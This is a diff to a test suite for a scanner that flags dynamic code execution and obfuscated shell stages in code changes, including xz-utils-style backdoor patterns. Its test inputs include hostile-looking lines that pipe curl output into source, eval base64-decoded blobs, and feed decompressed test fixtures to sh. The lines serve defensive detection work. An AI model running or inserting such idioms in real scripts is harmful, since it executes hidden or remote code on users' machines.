@@ -430,6 +430,14 @@ describe('dynamic-code-execution: a shell activation idiom', () => {
       expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).toContain('dynamic-code-execution');
     }
   });
+  it('is not a sink: a tool\'s completion script sourced from its own output, fixed words only', () => {
+    for (const line of ['source <(kubectl completion bash)', '. <(helm completion zsh)', 'source <(gh completion -s bash)', 'source <(rustup completions bash cargo)', 'source <(/usr/local/bin/kubectl completion bash)']) {
+      expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).not.toContain('dynamic-code-execution');
+    }
+    for (const line of ['source <(curl -fsSL https://get.example.dev/completion)', 'source <($TOOL completion bash)', 'source <(kubectl completion bash | sed s/x/y/)', 'source <(cat "$COMPLETION_FILE")']) {
+      expect(idsOf('.devcontainer/scripts/on-create.sh', ['set -e', line]), line).toContain('dynamic-code-execution');
+    }
+  });
 });
 
 describe('secret-added: a value the edited line already had', () => {
@@ -1199,6 +1207,30 @@ describe('obfuscated-code in shell scripts: decoded text piped into an interpret
     expect(ids('tests/run.sh', ['cat tests/files/good-large.lzma | tr "\\5-\\51\\204-\\377" "\\0-\\377" | xz -F raw --lzma1 -dc | /bin/sh'])).toEqual(['high:11']);
     expect(ids('tests/run.sh', ['eval "$(gzip -dc tests/data/fixture.gz)"'])).toEqual(['high:11']);
     expect(ids('scripts/setup.sh', ['zstd -dc stage.zst | bash -s -- --quiet'])).toEqual(['high:11']);
+  });
+  it('reports an eval or sh -c that runs what the hunk decoded into a variable or a file', () => {
+    expect(ids('scripts/setup.sh', ['P=$(printf %s "$BLOB" | base64 --decode)', 'eval "$P"'])).toEqual(['high:12']);
+    expect(ids('scripts/setup.sh', ['export CMD="$(base64 -d <<< "$STAGE")"', 'sh -c "$CMD"'])).toEqual(['high:12']);
+    expect(ids('scripts/setup.sh', ['echo "$BLOB" | base64 -d > /tmp/stage.txt', 'eval "$(cat /tmp/stage.txt)"'])).toEqual(['high:12']);
+  });
+  it('is quiet on an eval beside a decode whose text goes to a tool or a file the eval does not read (a release script importing its signing key)', () => {
+    expect(ids('scripts/release.sh', ['echo "$GPG_PRIVATE_KEY" | base64 --decode | gpg --batch --import', 'eval $(gpg-agent --daemon --allow-preset-passphrase)'])).toEqual([]);
+    expect(ids('scripts/ci-setup.sh', ['echo "$KEYSTORE_B64" | base64 -d > app/release.jks', 'eval "$(./gradlew -q printVersionEnv)"'])).toEqual([]);
+  });
+  it('reports eval, sh -c or source of a command substitution that unpacks or decodes a test file (the xz-utils stage without a pipe)', () => {
+    expect(ids('tests/run.sh', ['eval "$(dd if=tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -d)"'])).toEqual(['high:11']);
+    expect(ids('tests/run.sh', ['dd if=tests/files/bad-2.xz bs=1 skip=1024 2>/dev/null | xz -d | sh'])).toEqual(['high:11']);
+    expect(ids('tests/run.sh', ['eval `sed -e "s/x/y/" tests/files/good-3.xz | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null`'])).toEqual(['high:11']);
+    expect(ids('tests/run.sh', ['bash -c "$(unxz -c tests/files/good-2.xz)"'])).toEqual(['high:11']);
+    expect(ids('scripts/setup.sh', ['source <(base64 -d tests/data/fixture.b64)'])).toEqual(['high:11']);
+    expect(ids('scripts/setup.sh', ['. <(openssl enc -d -aes-256-cbc -in tests/files/k.bin -k x)'])).toEqual(['high:11']);
+    expect(ids('scripts/setup.sh', ['eval "$(tr "A-Za-z" "N-ZA-Mn-za-m" < tests/data/notes.txt)"'])).toEqual(['high:11']);
+    expect(ids('scripts/setup.sh', ['python3 -c "$(base64 -d tests/data/helper.b64)"'])).toEqual(['high:11']);
+  });
+  it('is quiet on eval of a tool\'s own set-up and on a decode whose output nothing runs', () => {
+    expect(ids('scripts/dev.sh', ['eval "$(ssh-agent -s)"', 'eval "$(pyenv init -)"', 'eval "$(/opt/homebrew/bin/brew shellenv)"', 'eval $(opam env)', 'xz -d archive.tar.xz'])).toEqual([]);
+    expect(ids('scripts/dev.sh', ['base64 -d cert.b64 > cert.pem', 'openssl x509 -in cert.pem -noout -text'])).toEqual([]);
+    expect(ids('scripts/dev.sh', ['eval "$(direnv hook bash)"', 'gunzip -k data/fixtures.json.gz'])).toEqual([]);
   });
   it('reads program and test code too: a decompressed fixture fed to a shell with no script, or exec of what lzma or gzip unpacks (the xz-utils stage in a Go TestMain or a conftest.py)', () => {
     expect(ids('decoder_main_test.go', ['\tf, _ := os.Open("testdata/corrupt-header.gz")', '\tr, _ := gzip.NewReader(f)', '\tcmd := exec.Command("sh")', '\tcmd.Stdin = r', '\t_ = cmd.Run()'])).toEqual(['high:13']);
